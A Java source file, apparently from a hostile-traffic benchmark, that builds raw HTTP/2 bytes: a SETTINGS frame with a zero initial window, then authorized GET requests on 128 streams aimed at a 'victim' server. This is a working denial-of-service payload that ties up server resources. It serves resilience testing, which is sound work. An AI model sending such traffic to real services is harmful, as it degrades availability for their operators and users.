// SPDX-License-Identifier: Apache-2.0
package org.talos.bench.hostile;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/**
 * The first bytes of an HTTP/2 connection on which no answer may be sent: as many streams as the server allows, each
 * with a window of nothing. Immutable.
 */
final class ClosedWindows {
    private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    private static final int STREAMS = 128;
    private static final int HEADERS = 1;
    private static final int SETTINGS = 4;
    private static final int END_OF_STREAM_AND_HEADERS = 5;
    private static final int INITIAL_WINDOW = 4;
    private static final int FRAME_HEAD_BYTES = 9;
    /** HPACK, RFC 7541: of the static table, and literals that are not indexed. */
    private static final int METHOD_GET = 0x82;

    private static final int SCHEME_HTTP = 0x86;
    private static final int AUTHORITY = 1;
    private static final int PATH = 4;
    private static final int NEW_NAME = 0;
    private static final int LONGEST_IN_ONE_BYTE = 127;

    private ClosedWindows() {}

    /** Connection preface, settings, and a get on each stream. */
    static byte[] of(Victim victim, HostileRequests requests) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(PREFACE.getBytes(StandardCharsets.US_ASCII));
        frame(
                out,
                SETTINGS,
                0,
                0,
                ByteBuffer.allocate(6)
                        .putShort((short) INITIAL_WINDOW)
                        .putInt(0)
                        .array());
        for (int i = 0; i < STREAMS; i++) {
            ByteArrayOutputStream head = new ByteArrayOutputStream();
            head.write(METHOD_GET);
            head.write(SCHEME_HTTP);
            head.write(AUTHORITY);
            text(head, victim.authority());
            head.write(PATH);
            text(head, requests.partitionPath() + "/messages?maxMessages=10&maxBytes=10000");
            head.write(NEW_NAME);
            text(head, "authorization");
            text(head, requests.authorization());
            frame(out, HEADERS, END_OF_STREAM_AND_HEADERS, 2 * i + 1, head.toByteArray());
        }
        return out.toByteArray();
    }

    private static void frame(ByteArrayOutputStream out, int type, int flags, int stream, byte[] payload) {
        out.writeBytes(ByteBuffer.allocate(FRAME_HEAD_BYTES)
                .put((byte) (payload.length >> 16))
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .array());
        out.writeBytes(payload);
    }

    private static void text(ByteArrayOutputStream out, String text) {
        byte[] bytes = text.getBytes(StandardCharsets.ISO_8859_1);
        if (bytes.length < LONGEST_IN_ONE_BYTE) {
            out.write(bytes.length);
        } else {
            out.write(LONGEST_IN_ONE_BYTE);
            int rest = bytes.length - LONGEST_IN_ONE_BYTE;
            while (rest > LONGEST_IN_ONE_BYTE) {
                out.write((rest & LONGEST_IN_ONE_BYTE) | 0x80);
                rest >>= 7;
            }
            out.write(rest);
        }
        out.writeBytes(bytes);
    }
}
